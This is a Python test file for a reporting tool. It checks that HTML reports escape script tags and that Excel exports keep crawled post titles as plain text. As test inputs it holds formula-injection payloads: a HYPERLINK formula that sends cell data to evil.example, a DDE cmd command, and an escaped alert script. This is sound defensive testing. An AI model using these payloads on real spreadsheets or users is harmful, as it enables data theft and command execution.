"""A report written as HTML (escaped) and as Excel (read back, crawled titles stay text)."""

from __future__ import annotations

import pytest

from tests.reports.conftest import DAY, NOW


def test_html_and_excel(report_world, tmp_path):
    from openpyxl import load_workbook

    from reports.data import build_report
    from reports.render import write

    cfg, store, db, _ = report_world
    report = build_report(cfg, "daily", DAY, store=store, db=db, now=NOW)
    html = write(report, tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert html.count("<svg") >= 5 and "万投比" in html and "<script src" not in html
    book = load_workbook(write(report, tmp_path / "r.xlsx"))
    assert book.sheetnames == ["封面", "总体情况", "舆情简报（每句附依据）", "趋势（相关帖子，按等级）",
                               "来源分布（相关帖子）",
                               "投诉分类（2级及以上）", "等级分布（相关帖子）",
                               "竞品对比（各运营商投诉量与等级构成）", "地市投诉与万投比",
                               "热点事件（影响力前列）", "处置时效（按责任单位）",
                               "各环节平均用时（小时，按责任单位）", "工单质检（按责任单位）",
                               "预警分析（审核、发布方式与恢复）",
                               "超期工单清单（按责任单位）"]
    overview = {r[0]: r[1:] for r in book["总体情况"].iter_rows(min_row=2, values_only=True) if r[0]}
    assert overview["相关帖子"][:2] == (7, 2)
    cities = {r[0]: r for r in book["地市投诉与万投比"].iter_rows(min_row=2, values_only=True)}
    assert cities["长沙"][5] == 0.01
    assert html.count('stroke="#fff" stroke-width="1"><title>') == 14  # the map of the 14 cities
    assert "<title>长沙：万投比 0.01</title>" in html
    assert f"<title>株洲：万投比 {cities['株洲'][5]:g}</title>" in html  # the map shows the sheet's figure


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?x="&A1,"点击")',
                                   "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(A1)"])
def test_crawled_titles_are_text_in_the_workbook(report_world, tmp_path, title):
    """A title that starts like a formula is stored as text, never as a live formula."""
    from openpyxl import load_workbook

    from reports.data import build_report
    from reports.render import write
    from tests.cases.helpers import post

    cfg, store, db, _ = report_world
    store.upsert_many([post(30, severity=4, influence=5.0, title=title)])
    report = build_report(cfg, "daily", DAY, store=store, db=db, now=NOW)
    book = load_workbook(write(report, tmp_path / "r.xlsx"))
    cells = [c for row in book["热点事件（影响力前列）"].iter_rows(min_row=2) for c in row
             if isinstance(c.value, str) and title in c.value]
    assert cells and all(c.data_type == "s" and c.value == "'" + title for c in cells)
    assert not any(c.data_type == "f" for sheet in book for row in sheet.iter_rows() for c in row)
